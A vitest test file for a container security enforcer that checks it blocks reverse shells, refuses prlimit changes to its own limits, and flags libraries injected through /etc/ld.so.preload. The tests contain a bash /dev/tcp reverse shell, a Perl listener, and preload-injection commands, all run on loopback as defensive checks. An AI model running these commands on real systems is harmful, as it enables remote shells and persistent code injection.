// Attacks on the enforcer as PID 1 that no other test lists (docs/security-review.md): a root application
// lowering the enforcer's resource limits with prlimit — RLIMIT_NOFILE 0 left the exec protections
// unable to read /proc and a reverse shell ran; RLIMIT_CPU gets it killed by the kernel.
import path from "node:path";
import { writeFileSync } from "node:fs";
import { beforeAll, describe, expect, test } from "vitest";
import { enforcerContainers } from "./enforcer-container.js";

const containers = enforcerContainers("unlisted");

beforeAll(() => {
  writeFileSync(path.join(containers.dir, "policy"), "vigil-policy 1\nexec.reverseShell block\nexec.drift block\nend\n");
});

// a loopback "attacker" in the container (no network): sends a command, prints what comes back
const ATTACKER =
  `perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalAddr => "127.0.0.1:4470", Listen => 1, ReuseAddr => 1) or die; ` +
  `$SIG{ALRM} = sub { exit }; alarm 5; $c = $l->accept; print $c "/bin/echo SHELL-\\$((6*7)); exit\\n"; while (<$c>) { print "attacker got: $_" }' &`;

describe("the enforcer's resource limits, as PID 1 of a root application", () => {
  test("prlimit --pid 1 is refused (NOFILE, CPU); the reverse shell after it is still blocked; the app sets its own limits", async () => {
    const r = await containers.run(
      path.join(containers.dir, "policy"),
      [
        ATTACKER,
        "sleep 0.5",
        'prlimit --pid 1 --nofile=0:0 2>/dev/null; echo "nofile=$?"',
        'prlimit --pid 1 --cpu=1:1 2>/dev/null; echo "cpu=$?"',
        'prlimit --pid $$ --nofile=512:512; echo "self=$?"',
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4470 0>&1'",
        'echo "shell=$?"',
        "wait",
      ].join("\n"),
    );
    expect(r.stdout).toMatch(/^nofile=1$/m);
    expect(r.stdout).toMatch(/^cpu=1$/m);
    expect(r.stdout).toMatch(/^self=0$/m);
    expect(r.stdout).toMatch(/^shell=126$/m);
    expect(r.stdout).not.toMatch(/SHELL-42/);
    expect(r.stderr).toMatch(/"verdict":"blocked","rule":"exec.reverseShell"/);
  });
});

// glibc's loader maps every library /etc/ld.so.preload lists into every dynamic program: a root
// application that writes that file (a policy with drift but without files.readOnly /etc/**, which
// the default policy has) ran a dropped library in every later program, LD_PRELOAD's check never
// seeing it. Now a listed library that appeared after the start is drift, and so is the file itself
// written after the start.
describe("drift through /etc/ld.so.preload, as PID 1 of a Debian container", () => {
  const LIBM = "/lib/x86_64-linux-gnu/libm.so.6";
  function withPreload(content: string | null, script: string) {
    const mounts: string[] = [];
    if (content !== null) {
      const file = path.join(containers.dir, `${containers.docker.uniqueName("preload")}.preload`);
      writeFileSync(file, content); // before the container starts: part of what it started with
      mounts.push("-v", `${file}:/etc/ld.so.preload:ro`);
    }
    return containers.run(path.join(containers.dir, "policy"), script, mounts);
  }

  test("a listed library dropped after the start is refused; one of the image runs; the file written after the start is refused", async () => {
    const dropped = await withPreload("/tmp/new.so\n", `/bin/true 2>/dev/null; echo "missing=$?"; cp ${LIBM} /tmp/new.so; /bin/true; echo "dropped=$?"`);
    expect(dropped.stdout.trim().split("\n"), dropped.stderr).toEqual(["missing=0", "dropped=126"]);
    expect(dropped.stderr).toMatch(/"verdict":"blocked","rule":"exec.drift".*"exe":"\/usr\/bin\/true"/);

    const image = await withPreload(`${LIBM}\n`, `/bin/true; echo "image=$?"`);
    expect(image.stdout.trim(), image.stderr).toBe("image=0");

    const written = await withPreload(null, `/bin/true; echo "none=$?"; echo ${LIBM} > /etc/ld.so.preload; /bin/true; echo "written=$?"`);
    expect(written.stdout.trim().split("\n"), written.stderr).toEqual(["none=0", "written=126"]);
  });
});
